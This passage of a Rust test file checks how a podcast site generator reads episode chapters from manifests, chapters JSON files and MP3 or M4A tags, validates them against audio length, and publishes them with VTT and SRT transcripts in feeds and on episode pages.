//! Chapters and transcripts: given in the manifest, in a chapters JSON
//! file, or in the MP3's own ID3 tag; checked against the measured audio;
//! published beside the page and named in the feed; read back here with
//! the `rss` crate, serde_json and as page text.

use crate::harness::*;

fn manifest(extra: &str) -> String {
    format!(
        "{PODCAST_TABLE}{}{extra}",
        episode("Pair", "pair-guid", "2024-01-01T00:00:00Z", &["chapters-id3v23.mp3", "vorbis-5s.ogg"])
    )
}

fn show(extra: &str) -> Show {
    Show::with(&manifest(extra), &["chapters-id3v23.mp3", "vorbis-5s.ogg", "pair-5s.mp3"])
}

/// The item's `podcast:NAME` extensions: (url, type, language, rel) each.
fn podcast_tags(show: &Show, feed: &str, name: &str) -> Vec<(String, String, String, String)> {
    let channel = show.channel(feed);
    let item = &channel.items()[0];
    let attr = |e: &rss::extension::Extension, k: &str| e.attrs().get(k).cloned().unwrap_or_default();
    item.extensions()
        .get("podcast")
        .and_then(|p| p.get(name))
        .map(|list| {
            list.iter().map(|e| (attr(e, "url"), attr(e, "type"), attr(e, "language"), attr(e, "rel"))).collect()
        })
        .unwrap_or_default()
}

fn chapters_json(show: &Show) -> serde_json::Value {
    serde_json::from_str(&show.read("public/episodes/pair/chapters.json")).unwrap()
}

#[test]
fn an_mp3s_own_chapters_are_published_without_a_word_in_the_manifest() {
    let show = show("");
    show.build().ok();
    let json = chapters_json(&show);
    assert_eq!(json["version"], "1.2.0");
    let chapters = json["chapters"].as_array().unwrap();
    let got: Vec<(f64, f64, &str)> = chapters
        .iter()
        .map(|c| (c["startTime"].as_f64().unwrap(), c["endTime"].as_f64().unwrap(), c["title"].as_str().unwrap()))
        .collect();
    assert_eq!(got, [(0.0, 2.0, "Intro – Grüße"), (2.0, 5.0, "The interview")]);
    for feed in ["feed.xml", "feed.ogg.xml"] {
        let tags = podcast_tags(&show, feed, "chapters");
        assert_eq!(
            tags,
            [(
                "https://example.com/show/episodes/pair/chapters.json".to_string(),
                "application/json+chapters".to_string(),
                String::new(),
                String::new()
            )],
            "{feed}"
        );
    }
    let page = page_text(&show.read("public/episodes/pair/index.html"));
    assert!(
        page.contains("Chapters") && page.contains("0:00 Intro – Grüße") && page.contains("0:02 The interview"),
        "{page}"
    );
    // The feed is one the validator accepts.
    show.run(&["validate", "public/feed.xml"]).ok();
}

/// An M4A's own chapters (its Nero chapter list, as FFmpeg and the
/// audiobook tools write it, or its QuickTime chapter track alone, as
/// GarageBand does) are published as an MP3's are; chapters the
/// manifest gives that differ are said to differ from the M4A's own.
#[test]
fn an_m4as_own_chapters_are_published_as_an_mp3s_are() {
    // (GarageBand's: a chapter track alone.)
    let ep = episode("Pair", "pair-guid", "2024-01-01T00:00:00Z", &["chapters-qt.m4a"]);
    let show = Show::with(&format!("{PODCAST_TABLE}{ep}"), &["chapters-qt.m4a"]);
    show.build().ok();
    let titles: Vec<String> =
        chapters_json(&show)["chapters"].as_array().unwrap().iter().map(|c| c["title"].to_string()).collect();
    assert_eq!(titles, ["\"Intro\"", "\"Caf\u{e9} talk\""]);
    let ep = episode("Pair", "pair-guid", "2024-01-01T00:00:00Z", &["chapters.m4a"]);
    let show = Show::with(&format!("{PODCAST_TABLE}{ep}"), &["chapters.m4a"]);
    show.build().ok();
    let json = chapters_json(&show);
    let got: Vec<(f64, &str)> = json["chapters"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["startTime"].as_f64().unwrap(), c["title"].as_str().unwrap()))
        .collect();
    assert_eq!(got, [(0.0, "Intro"), (1.5, "Caf\u{e9} talk")]);
    let page = page_text(&show.read("public/episodes/pair/index.html"));
    assert!(page.contains("0:00 Intro") && page.contains("0:01 Caf\u{e9} talk"), "{page}");
    show.write("episodes.toml", &format!("{PODCAST_TABLE}{ep}\n[[episode.chapters]]\nstart = 0\ntitle = \"Start\"\n"));
    let run = show.build().ok();
    assert!(
        run.stderr.contains("differ from those in media/chapters.m4a's own chapters; the manifest's are published"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("apps that read the M4A's own chapters show those"), "{}", run.stderr);
}

#[test]
fn manifest_chapters_win_over_the_mp3s_with_a_warning_and_are_checked_against_every_format() {
    let chapters = "\n[[episode.chapters]]\nstart = 0\ntitle = \"Start\"\nurl = \"https://example.com/a\"\n\n\
                    [[episode.chapters]]\nstart = \"0:03.5\"\ntitle = \"Later\"\ntoc = false\n";
    let show = show(chapters);
    let run = show.build().ok();
    assert!(run.stderr.contains("differ from those in media/chapters-id3v23.mp3's ID3 tag"), "{}", run.stderr);
    let json = chapters_json(&show);
    assert_eq!(json["chapters"][0]["url"], "https://example.com/a");
    assert_eq!(json["chapters"][1]["startTime"], 3.5);
    assert_eq!(json["chapters"][1]["toc"], false);
    // A silent marker (toc = false) is not listed on the page.
    assert!(!page_text(&show.read("public/episodes/pair/index.html")).contains("Later"));

    // Past the end of the 5 s audio: refused, with the chapter and the format named.
    let before = show.public_files();
    show.write("episodes.toml", &manifest(&chapters.replace("\"0:03.5\"", "\"0:07\"")));
    let run = show.build().fails(1);
    assert!(
        run.stderr.contains("chapter 2 (\"Later\", 0:07) starts after the end of the MP3 (0:05)"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("starts after the end of the OGG (0:05)"), "{}", run.stderr);
    assert_eq!(show.public_files(), before, "nothing was written");
    // Out of order, and not from 0.
    show.write("episodes.toml", &manifest(&chapters.replace("start = 0\n", "start = 4\n")));
    let run = show.build().fails(1);
    assert!(run.stderr.contains("starts at 0:04, not at 0"), "{}", run.stderr);
    assert!(run.stderr.contains("does not start after the chapter before it"), "{}", run.stderr);
    // Thousands of chapters out of order: each problem once, the first ten
    // said, the rest counted (they were compared with every one said before:
    // minutes for a long list).
    let many: String = (0..3000).map(|n| format!("\n[[episode.chapters]]\nstart = 0\ntitle = \"C{n}\"\n")).collect();
    show.write("episodes.toml", &manifest(&many));
    let run = show.build().fails(1);
    let said: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.starts_with("error: episodes.toml:") && l.contains("episode \"Pair\""))
        .collect();
    assert_eq!(said.len(), 11, "{}", run.stderr);
    // Each at its own [[episode.chapters]] (four lines apart, the first at 17).
    assert!(said[0].starts_with("error: episodes.toml:21: "), "{said:?}");
    assert!(said[0].contains("chapter 2 (\"C1\", 0:00) does not start after the chapter before it"), "{said:?}");
    assert_eq!(said[10], "error: episodes.toml:11: episode \"Pair\": 2989 more problems with its chapters");
    // A time that is not one: a manifest error, with its line.
    show.write("episodes.toml", &manifest(&chapters.replace("\"0:03.5\"", "\"3:75\"")));
    let run = show.build().fails(1);
    assert!(
        run.stderr.contains("episodes.toml:") && run.stderr.contains("is not a time in the episode"),
        "{}",
        run.stderr
    );
}

/// A chapter's problem is told at the chapter's own line, with what fixes
/// that problem; times that read the same to the second are told finer.
#[test]
fn chapter_problems_are_told_at_the_chapter_with_the_fix_of_that_problem() {
    let chapters = "\n[[episode.chapters]]\nstart = 0\ntitle = \"Start\"\n\n\
                    [[episode.chapters]]\nstart = 2\nend = \"0:45\"\ntitle = \"Long\"\n";
    let show = show(chapters);
    let run = show.build().fails(1);
    let line = manifest(chapters).lines().position(|l| l == "end = \"0:45\"").unwrap() - 1;
    assert!(
        run.stderr.contains(&format!(
            "error: episodes.toml:{line}: episode \"Pair\": chapter 2 (\"Long\", 0:02) ends at 0:45, after the end of \
             the MP3 (0:05)\n  help: fix the chapter's end, or leave it out"
        )),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("fix the chapter's start"), "{}", run.stderr);
    // The length is shown for an episode in error whose media measured.
    let run = show.run(&["list", "--as-of", "2026-06-01T00:00:00Z"]).fails(1);
    let row: Vec<&str> = run.stdout.lines().nth(1).unwrap().split_whitespace().collect();
    assert_eq!(row[2..], ["Pair", "0:05", "MP3", "OGG", "error"], "{}", run.stdout);

    // A chapters file: told at its chapters_file line, the file named; 5.4 s is not "0:05".
    show.write("episodes.toml", &manifest("chapters_file = \"chapters.json\"\n"));
    show.write(
        "chapters.json",
        r#"{"version": "1.2.0", "chapters": [{"startTime": 0, "title": "a"}, {"startTime": 5.4, "title": "c"}]}"#,
    );
    let run = show.build().fails(1);
    assert!(
        run.stderr.contains(
            "error: episodes.toml:16: episode \"Pair\": chapters.json: chapter 2 (\"c\", 0:05.4) starts after the end \
             of the MP3 (0:05.0)\n  help: fix the chapter's startTime in chapters.json"
        ),
        "{}",
        run.stderr
    );
}

/// An MP3's own chapter without a title is published as a marker (the
/// podcaster cannot easily edit the tag), with a warning that names the
/// MP3, said by `add` as the build says it.
#[test]
fn an_mp3s_own_untitled_chapter_is_a_marker_and_add_says_so_as_the_build_does() {
    let show = Show::with(PODCAST_TABLE, &[]);
    let outside = tempfile::tempdir().unwrap();
    let given = outside.path().join("chap.mp3");
    std::fs::copy(audio("chapters-untitled.mp3"), &given).unwrap();
    let given = given.display().to_string();
    let said = "episode \"U\": the chapters in this MP3's ID3 tag: chapter 2 (0:02) has no title: published as a \
                marker apps leave out of the list of chapters";
    let run = show.run(&["add", &given, "--title", "U", "--date", "2024-01-01", "--dry-run"]).ok();
    assert!(run.stderr.contains(&format!("warning: {given}: {said}")), "{}", run.stderr);
    let run = show.run(&["add", &given, "--title", "U", "--date", "2024-01-01"]).ok();
    assert!(run.stderr.contains(&format!("warning: media/chap.mp3: {said}")), "{}", run.stderr);
    assert!(run.stderr.contains("help: name the chapter in the app that wrote"), "{}", run.stderr);
    let run = show.build().ok();
    assert!(run.stderr.contains(&format!("warning: media/chap.mp3: {said}")), "{}", run.stderr);
    assert!(
        !run.stderr.lines().any(|l| l.starts_with("warning: episodes.toml:") && l.contains("chapter")),
        "no manifest line gives it: {}",
        run.stderr
    );
    let json: serde_json::Value = serde_json::from_str(&show.read("public/episodes/u/chapters.json")).unwrap();
    let chapters = json["chapters"].as_array().unwrap();
    assert_eq!(chapters.len(), 3);
    assert_eq!((chapters[1]["startTime"].as_f64(), chapters[1]["toc"].as_bool()), (Some(2.0), Some(false)));
    assert_eq!(chapters[2]["title"], "Outro");
    let run = show.run(&["list", "--as-of", "2026-06-01T00:00:00Z"]).ok();
    assert!(run.stdout.contains("0:05") && run.stdout.contains("live"), "{}", run.stdout);
}

/// An MP3's own chapters that do not fit the cut it holds (one ending
/// past the end, one starting after it) do not stop the build: the
/// podcaster cannot easily edit the tag, and the MP3 carries those
/// chapters to apps anyway. The build publishes them as they can be
/// played, says what it did with the MP3 named, and `add` says the same.
#[test]
fn an_mp3s_own_chapters_past_the_end_are_published_repaired_with_a_warning() {
    let show = Show::with(
        &format!(
            "{PODCAST_TABLE}{}",
            episode("W", "w-guid", "2024-01-01T00:00:00Z", &["chapters-wrong.mp3", "vorbis-5s.ogg"])
        ),
        &["chapters-wrong.mp3", "vorbis-5s.ogg"],
    );
    let run = show.build().ok();
    let tag = "warning: media/chapters-wrong.mp3: episode \"W\": the chapters in this MP3's ID3 tag: ";
    for said in [
        "chapter 3 (\"Talk\", 0:03) ends at 0:09, after the end of the OGG (0:05): published ending where the next \
         one starts",
        "chapter 4 (\"Cut away\", 0:07) starts after the end of the OGG (0:05): left out",
    ] {
        assert!(run.stderr.contains(&format!("{tag}{said}\n  help: fix the chapters in the app")), "{}", run.stderr);
    }
    let json: serde_json::Value = serde_json::from_str(&show.read("public/episodes/w/chapters.json")).unwrap();
    let got: Vec<(f64, Option<f64>, &str)> = json["chapters"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["startTime"].as_f64().unwrap(), c["endTime"].as_f64(), c["title"].as_str().unwrap()))
        .collect();
    assert_eq!(got, [(0.0, Some(2.0), "Intro"), (2.0, None, "News"), (3.0, None, "Talk")]);
    let page = show.read("public/episodes/w/index.html");
    assert!(page.contains("Talk") && !page.contains("Cut away"), "{page}");
    // `add` of the same MP3 says what the build will, and adds it.
    let outside = tempfile::tempdir().unwrap();
    let given = outside.path().join("again.mp3");
    std::fs::copy(audio("chapters-wrong.mp3"), &given).unwrap();
    let run = show.run(&["add", &given.display().to_string(), "--title", "Again", "--date", "2024-02-01"]).ok();
    assert!(
        run.stderr.contains(
            "warning: media/again.mp3: episode \"Again\": the chapters in this MP3's ID3 tag: chapter 4 (\"Cut away\", \
             0:07) starts after the end of the MP3 (0:05): left out"
        ),
        "{}",
        run.stderr
    );
}

/// An MP3 whose top-level table of contents lists a table that lists
/// the chapters (the ID3 chapter addendum's hierarchical table of
/// contents) has all of them in its contents; each chapter's own link
/// (`WXXX`, or another URL frame) is published in the chapters file, the
/// feed and the page, a link that is not http(s) is left out with a
/// warning naming the MP3; its JPEG and PNG pictures are published (see
/// `an_mp3s_own_chapter_pictures_are_published_beside_the_page`), a GIF is
/// said not to be.
#[test]
fn an_mp3s_nested_table_of_contents_and_its_chapters_links_are_published() {
    let show = Show::with(
        &format!("{PODCAST_TABLE}{}", episode("N", "n-guid", "2024-01-01T00:00:00Z", &["chapters-nested.mp3"])),
        &["chapters-nested.mp3"],
    );
    let run = show.build().ok();
    let tag = "warning: media/chapters-nested.mp3: episode \"N\": the chapters in this MP3's ID3 tag: ";
    let said = [
        "chapter 4 (\"Part C\", 0:04): its link \"ftp://example.org/c\" is a ftp: URL; podcast apps fetch only \
         http(s): published without it\n  help: fix the chapter (its link an http or https URL) in the app",
        "chapter 4 has a picture (APIC) podsmith cannot publish (it publishes a JPEG or PNG of up to 4 MiB, stored \
         as it is): published without it\n  help: save the chapters' pictures as JPEG or PNG",
    ];
    for said in said {
        assert!(run.stderr.contains(&format!("{tag}{said}")), "{}", run.stderr);
    }
    let json = chapters_json_of(&show, "n");
    let got: Vec<(f64, &str, Option<&str>, Option<bool>)> = json["chapters"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (c["startTime"].as_f64().unwrap(), c["title"].as_str().unwrap(), c["url"].as_str(), c["toc"].as_bool())
        })
        .collect();
    assert_eq!(
        got,
        [
            (0.0, "Intro", Some("https://example.org/intro"), None),
            (1.0, "Part A", Some("https://example.org/a"), None),
            (2.5, "Part B", Some("https://example.org/b"), None),
            (4.0, "Part C", None, None),
        ]
    );
    let (_, psc) = simple_chapters(&show, "feed.xml");
    let psc: Vec<[&str; 3]> = psc.iter().map(|[s, t, h, _]| [s.as_str(), t.as_str(), h.as_str()]).collect();
    assert_eq!(
        psc,
        [
            ["00:00:00.000", "Intro", "https://example.org/intro"],
            ["00:00:01.000", "Part A", "https://example.org/a"],
            ["00:00:02.500", "Part B", "https://example.org/b"],
            ["00:00:04.000", "Part C", ""],
        ]
    );
    let page = show.read("public/episodes/n/index.html");
    for listed in [
        "<a href=\"https://example.org/intro\"><bdi>Intro</bdi></a>",
        "<a href=\"https://example.org/a\"><bdi>Part A</bdi></a>",
        "<a href=\"https://example.org/b\"><bdi>Part B</bdi></a>",
        // (Each title a run of its own: one written right to left keeps
        // its punctuation on its side.)
        "</time></a> <bdi>Part C</bdi></li>",
    ] {
        assert!(page.contains(listed), "{listed} in {page}");
    }
}

/// An MP3's own chapters' JPEG and PNG pictures (`APIC` frames) are
/// published beside the episode's page, each the very bytes the tag holds,
/// named by their content, and linked from the chapters file and the
/// feed's `psc:chapter`s; a build that changes something else leaves them
/// as they are; a recording whose tag has no pictures any more takes them
/// away.
#[test]
fn an_mp3s_own_chapter_pictures_are_published_beside_the_page() {
    let show = Show::with(
        &format!("{PODCAST_TABLE}{}", episode("N", "n-guid", "2024-01-01T00:00:00Z", &["chapters-nested.mp3"])),
        &["chapters-nested.mp3"],
    );
    show.build().ok();
    let mp3 = std::fs::read(show.path("media/chapters-nested.mp3")).unwrap();
    let json = chapters_json_of(&show, "n");
    let images: Vec<Option<&str>> = json["chapters"].as_array().unwrap().iter().map(|c| c["img"].as_str()).collect();
    assert!(images[0].is_none() && images[3].is_none(), "{images:?}");
    let base = "https://example.com/show/episodes/n/";
    let mut published = Vec::new();
    for (image, magic) in [(images[1], &b"\xFF\xD8\xFF"[..]), (images[2], &b"\x89PNG\r\n\x1a\n"[..])] {
        let name = image.and_then(|u| u.strip_prefix(base)).unwrap_or_else(|| panic!("{image:?}"));
        assert!(name.starts_with("chapter-") && !name.contains('/'), "{name}");
        let bytes = std::fs::read(show.path(&format!("public/episodes/n/{name}"))).unwrap();
        assert!(bytes.starts_with(magic), "{name}");
        assert!(mp3.windows(bytes.len()).any(|w| w == bytes), "{name} is the tag's picture");
        published.push(name.to_string());
    }
    assert!(published[0].ends_with(".jpg") && published[1].ends_with(".png"), "{published:?}");
    let (_, psc) = simple_chapters(&show, "feed.xml");
    let psc_images: Vec<&str> = psc.iter().map(|[_, _, _, image]| image.as_str()).collect();
    assert_eq!(psc_images, ["", images[1].unwrap(), images[2].unwrap(), ""]);
    // Another change: the pictures are left as they are (not written again).
    let picture = show.path(&format!("public/episodes/n/{}", published[0]));
    let before = std::fs::metadata(&picture).unwrap().modified().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(20));
    show.write("episodes.toml", &format!("{}notes = \"Now with notes.\"\n", show.read("episodes.toml")));
    show.build().ok();
    assert_eq!(std::fs::metadata(&picture).unwrap().modified().unwrap(), before);
    assert!(chapters_json_of(&show, "n")["chapters"][1]["img"].as_str() == images[1]);
    // The recording without chapters: its pictures go.
    std::fs::copy(audio("pair-5s.mp3"), show.path("media/chapters-nested.mp3")).unwrap();
    show.run(&["build", "--allow-changes"]).ok();
    let left: Vec<String> = show.public_files().into_keys().filter(|k| k.starts_with("episodes/")).collect();
    assert_eq!(left, ["episodes/n/index.html"]);
}

fn chapters_json_of(show: &Show, slug: &str) -> serde_json::Value {
    serde_json::from_str(&show.read(&format!("public/episodes/{slug}/chapters.json"))).unwrap()
}

/// The item's `psc:chapters`: its version, and each chapter's start,
/// title, href and image (empty where absent).
fn simple_chapters(show: &Show, feed: &str) -> (String, Vec<[String; 4]>) {
    let channel = show.channel(feed);
    let item = &channel.items()[0];
    let lists = item.extensions().get("psc").and_then(|p| p.get("chapters")).cloned().unwrap_or_default();
    assert_eq!(lists.len(), 1, "one psc:chapters in {feed}");
    let attr = |e: &rss::extension::Extension, k: &str| e.attrs().get(k).cloned().unwrap_or_default();
    let chapters = lists[0].children().get("chapter").cloned().unwrap_or_default();
    let got =
        chapters.iter().map(|c| [attr(c, "start"), attr(c, "title"), attr(c, "href"), attr(c, "image")]).collect();
    (attr(&lists[0], "version"), got)
}

#[test]
fn podlove_simple_chapters_list_the_table_of_contents_inline_for_spotify() {
    let chapters = "\n[[episode.chapters]]\nstart = 0\ntitle = \"Start & <go>\"\nurl = \"https://example.com/a?b=1&c=2\"\n\
                    image = \"media/cover.jpg\"\n\n[[episode.chapters]]\nstart = \"0:02.25\"\ntitle = \"Talk\"\n\n\
                    [[episode.chapters]]\nstart = \"0:03.5\"\ntitle = \"Marker\"\ntoc = false\n";
    let show = show(chapters);
    show.build().ok();
    let s = |v: &str| v.to_string();
    for feed in ["feed.xml", "feed.ogg.xml"] {
        let (version, got) = simple_chapters(&show, feed);
        assert_eq!(version, "1.2");
        // The silent marker (toc = false) is not listed.
        assert_eq!(
            got,
            [
                [
                    s("00:00:00.000"),
                    s("Start & <go>"),
                    s("https://example.com/a?b=1&c=2"),
                    s("https://example.com/show/media/cover.jpg")
                ],
                [s("00:00:02.250"), s("Talk"), s(""), s("")],
            ],
            "{feed}"
        );
    }
    // What the build checked, `validate` accepts as well.
    show.run(&["validate", "public/feed.xml"]).ok();
    // The MP3's own chapters, when the manifest gives none.
    let show = self::show("");
    show.build().ok();
    let (_, got) = simple_chapters(&show, "feed.xml");
    let starts: Vec<(&str, &str)> = got.iter().map(|c| (c[0].as_str(), c[1].as_str())).collect();
    assert_eq!(starts, [("00:00:00.000", "Intro – Grüße"), ("00:00:02.000", "The interview")]);
    // A feed with no chapters declares no psc namespace.
    let plain = Show::with(
        &format!("{PODCAST_TABLE}{}", episode("Pair", "pair-guid", "2024-01-01T00:00:00Z", &["pair-5s.mp3"])),
        &["pair-5s.mp3"],
    );
    plain.build().ok();
    assert!(!plain.read("public/feed.xml").contains("podlove"));
}

/// A chapters file's places (`location`: a name, a geo: URI, an
/// OpenStreetMap object) are published as given; the published file names
/// its episode, show and author as the manifest has them (whatever the file
/// said); a place without a name or with a geo that is not a geo: URI is a
/// manifest error naming the file and the chapter.
#[test]
fn a_chapters_files_places_are_published_and_the_file_names_its_episode() {
    let show = show("chapters_file = \"chapters.json\"\n");
    show.write(
        "chapters.json",
        r#"{"version": "1.2.0", "author": {"name": "not a string"}, "podcastName": "Old name", "waypoints": true,
            "chapters": [
            {"startTime": 0, "title": "Intro", "location": {"name": "Berlin", "geo": "geo:52.52,13.405", "osm": "R62422"}},
            {"startTime": 2, "title": "Talk"}]}"#,
    );
    show.build().ok();
    let json = chapters_json(&show);
    // (The places are a route, as the file says: apps draw it on a map.)
    assert_eq!(json["waypoints"], true, "{json}");
    assert_eq!(
        json["chapters"][0]["location"],
        serde_json::json!({"name": "Berlin", "geo": "geo:52.52,13.405", "osm": "R62422"})
    );
    assert!(json["chapters"][1].get("location").is_none(), "{json}");
    assert_eq!(json["title"], "Pair");
    assert_eq!(json["podcastName"], show.channel("feed.xml").title());
    assert!(json["author"].is_string(), "{json}");
    let file = show.read("chapters.json");
    show.write("chapters.json", &file.replace("\"waypoints\": true,", ""));
    show.build().ok();
    assert!(chapters_json(&show).get("waypoints").is_none());
    for (location, said) in [
        (r#"{"geo": "geo:1,2"}"#, "chapter 1: `location` needs a `name` of 1 to 128 characters"),
        (r#"{"name": "X", "geo": "52.52,13.405"}"#, "chapter 1: `location` `geo` \"52.52,13.405\" is not a geo: URI"),
        (r#"{"name": "X", "osm": "Berlin"}"#, "chapter 1: `location` `osm` \"Berlin\" is not an OpenStreetMap object"),
    ] {
        show.write(
            "chapters.json",
            &format!(
                r#"{{"version": "1.2.0", "chapters": [{{"startTime": 0, "title": "A", "location": {location}}}]}}"#
            ),
        );
        let run = show.build().fails(1);
        assert!(run.stderr.contains("chapters_file \"chapters.json\"") && run.stderr.contains(said), "{}", run.stderr);
    }
}

#[test]
fn a_chapters_file_is_read_checked_and_its_edits_rebuild() {
    let show = show("chapters_file = \"chapters.json\"\n");
    show.write(
        "chapters.json",
        r#"{"version": "1.2.0", "chapters": [{"startTime": 0, "title": "Intro – Grüße"}, {"startTime": 2, "title": "The interview"}]}"#,
    );
    let run = show.build().ok();
    assert!(!run.stderr.contains("CHAPTERS"), "the file agrees with the MP3's own: {}", run.stderr);
    assert_eq!(chapters_json(&show)["chapters"][1]["startTime"], 2.0);
    // An edit of the file alone is seen (the build is not "nothing changed").
    show.write(
        "chapters.json",
        r#"{"version": "1.2.0", "chapters": [{"startTime": 0, "title": "Intro"}, {"startTime": 3, "title": "Talk", "img": "https://example.com/c.jpg"}]}"#,
    );
    show.build().ok();
    let json = chapters_json(&show);
    assert_eq!(json["chapters"][1]["title"], "Talk");
    assert_eq!(json["chapters"][1]["img"], "https://example.com/c.jpg");
    // A damaged file: a manifest error naming it.
    show.write("chapters.json", "{\"chapters\": 3}");
    let run = show.build().fails(1);
    assert!(
        run.stderr.contains("chapters_file \"chapters.json\"") && run.stderr.contains("not a chapters file"),
        "{}",
        run.stderr
    );
    // An empty one: refused, not a <podcast:chapters> of nothing (nor the
    // MP3's own chapters in its place: the manifest names a file).
    let before = show.public_files();
    show.write("chapters.json", r#"{"version":"1.2.0","chapters":[]}"#);
    let run = show.build().fails(1);
    assert!(
        run.stderr.contains(
            "episodes.toml:16:17: chapters_file \"chapters.json\" in episode 1 (\"Pair\") has no chapters\n  \
             help: give the episode's chapters in chapters.json"
        ),
        "{}",
        run.stderr
    );
    assert_eq!(show.public_files(), before, "nothing was written");
    show.write("episodes.toml", &manifest("chapters = []\n"));
    let run = show.build().fails(1);
    assert!(run.stderr.contains("`chapters` in episode 1 (\"Pair\") is empty"), "{}", run.stderr);
}

#[test]
fn transcripts_are_checked_published_with_their_counterpart_and_shown() {
    let vtt = "WEBVTT\n\n00:00.000 --> 00:02.000\n<v Ann>Hello & welcome.\n\n00:02.000 --> 00:04.900\n<v Bob>Thanks.\n";
    let show = show("transcript = [{ file = \"t.vtt\" }, { file = \"t.de.srt\", language = \"de\" }]\n");
    show.write("t.vtt", vtt);
    show.write("t.de.srt", "1\n00:00:00,000 --> 00:00:04,000\nHallo.\n");
    show.build().ok();
    let tags = podcast_tags(&show, "feed.xml", "transcript");
    let base = "https://example.com/show/episodes/pair/";
    let tag = |name: &str, kind: &str, lang: &str| {
        (format!("{base}{name}"), kind.to_string(), lang.to_string(), "captions".to_string())
    };
    assert_eq!(
        tags,
        [
            tag("transcript.vtt", "text/vtt", "en"),
            tag("transcript.srt", "application/x-subrip", "en"),
            tag("transcript.de.srt", "application/x-subrip", "de"),
            tag("transcript.de.vtt", "text/vtt", "de"),
        ]
    );
    // Published as given, and the counterpart made from the same cues.
    assert_eq!(show.read("public/episodes/pair/transcript.vtt"), vtt);
    let srt = show.read("public/episodes/pair/transcript.srt");
    assert_eq!(
        srt,
        "1\n00:00:00,000 --> 00:00:02,000\nAnn: Hello & welcome.\n\n2\n00:00:02,000 --> 00:00:04,900\nBob: Thanks.\n\n"
    );
    assert!(
        show.read("public/episodes/pair/transcript.de.vtt")
            .starts_with("WEBVTT\n\n00:00:00.000 --> 00:00:04.000\nHallo.\n")
    );
    // On the page: speakers, text (escaped), timestamps that seek.
    let html = show.read("public/episodes/pair/index.html");
    assert!(html.contains("<p><a href=\"../../media/chapters-id3v23.mp3#t=0.0\" data-seek=\"0.0\" aria-label=\"Play from 0:00\" lang=\"en\"><time datetime=\"PT0S\">0:00</time></a> <strong><bdi>Ann</bdi>:</strong> Hello &amp; welcome."), "{html}");
    // Files in two languages are told apart by their names, not only by hreflang.
    assert!(
        html.contains("<a href=\"transcript.de.srt\" hreflang=\"de\"><span>Transcript</span> (de, SRT)</a>"),
        "{html}"
    );
    show.run(&["validate", "public/feed.xml"]).ok();

    // A cue past the end of the audio, a broken file, a bad language: refused.
    show.write("t.vtt", &vtt.replace("00:04.900", "00:09.000"));
    let run = show.build().fails(1);
    assert!(run.stderr.contains("t.vtt's last cue ends at 0:09, after the end of the"), "{}", run.stderr);
    show.write("t.vtt", "WEBVTT\n\n00:03.000 --> 00:01.000\nx\n");
    let run = show.build().fails(1);
    assert!(
        run.stderr
            .contains("transcript \"t.vtt\" in episode 1 (\"Pair\"): line 3: it ends (00:01.000) before it starts"),
        "{}",
        run.stderr
    );
    show.write("episodes.toml", &manifest("transcript = [{ file = \"t.de.srt\", language = \"deutsch\" }]\n"));
    let run = show.build().fails(1);
    assert!(run.stderr.contains("not an ISO 639 language code"), "{}", run.stderr);
    show.write("episodes.toml", &manifest("transcript = \"t.txt\"\n"));
    show.write("t.txt", "hello");
    let run = show.build().fails(1);
    assert!(run.stderr.contains("is not a .vtt, .srt, .json or .html file"), "{}", run.stderr);
}

/// A long transcript is a long run of links (a cue's time each): a link
/// before it leads past it, for whoever moves through the page by keyboard;
/// a short one needs none.
#[test]
fn a_long_transcript_on_the_page_has_a_way_past_it() {
    let show = show("transcript = \"t.vtt\"\n");
    // (Two voices in turn: a paragraph a cue.)
    let vtt = |n: u32| {
        let stamp = |tenths: u32| format!("00:00:0{}.{}00", tenths / 10, tenths % 10);
        let who = |i: u32| if i.is_multiple_of(2) { "Ann" } else { "Bob" };
        let cue = |i: u32| format!("{} --> {}\n<v {}>Line {i}.\n\n", stamp(i), stamp(i + 1), who(i));
        format!("WEBVTT\n\n{}", (0..n).map(cue).collect::<String>())
    };
    show.write("t.vtt", &vtt(25));
    show.build().ok();
    let html = show.read("public/episodes/pair/index.html");
    let (before, after) = html.split_once("<div class=\"transcript\"").expect("the transcript is shown");
    assert!(
        before.ends_with("<p class=\"skip\"><a href=\"#after-transcript\">Skip the transcript</a></p>\n"),
        "{before}"
    );
    let (cues, after) = after.split_once("</div>").expect("closed");
    assert_eq!(cues.matches("data-seek").count(), 25);
    assert!(after.starts_with("\n<div id=\"after-transcript\" tabindex=\"-1\"></div>"), "{after}");
    show.write("t.vtt", &vtt(3));
    show.build().ok();
    let html = show.read("public/episodes/pair/index.html");
    assert!(html.contains("<div class=\"transcript\"") && !html.contains("after-transcript"), "{html}");
}

/// A transcript as long as podsmith takes (tens of thousands of cues, two
/// voices in turn: a paragraph and a link each) makes an episode page far
/// over the 16 MB a template's page may have: it is published, not taken
/// for a template that runs away.
#[test]
fn a_transcript_of_eighty_thousand_cues_is_published_on_its_page() {
    let show = show("transcript = \"t.vtt\"\n");
    let n = 80_000;
    let mut vtt = String::from("WEBVTT\n\n");
    for i in 0..n {
        let ms = i * 4_000 / n;
        let who = if i % 2 == 0 { "Ann" } else { "Bob" };
        vtt.push_str(&format!(
            "00:00:0{}.{:03} --> 00:00:04.500\n<v {who}>Words number {i} of the talk.\n\n",
            ms / 1000,
            ms % 1000
        ));
    }
    show.write("t.vtt", &vtt);
    show.build().ok();
    let html = show.read("public/episodes/pair/index.html");
    assert!(html.len() > 16 << 20, "{}", html.len());
    let (_, transcript) = html.split_once("<div class=\"transcript\"").expect("the transcript is shown");
    let cues = transcript.split_once("</div>").expect("closed").0;
    assert_eq!(cues.matches("data-seek").count(), n as usize);
    assert!(cues.contains("Words number 79999 of the talk."));
}

/// A transcript of a word a cue (as speech recognition makes them) is
/// read on the page as paragraphs, a speaker each, a link to its time
/// each: not a link a word. The files beside the page keep every cue.
#[test]
fn a_transcript_of_a_word_a_cue_is_read_on_the_page_as_paragraphs() {
    let show = show("transcript = \"t.srt\"\n");
    let words = "so we built it and then we shipped it to everyone who asked. ".repeat(3);
    let words: Vec<&str> = words.split_whitespace().collect();
    let srt: String = words
        .iter()
        .enumerate()
        .map(|(i, word)| {
            let stamp = |ms: usize| format!("00:00:{:02},{:03}", ms / 1000, ms % 1000);
            let who = if i == 0 {
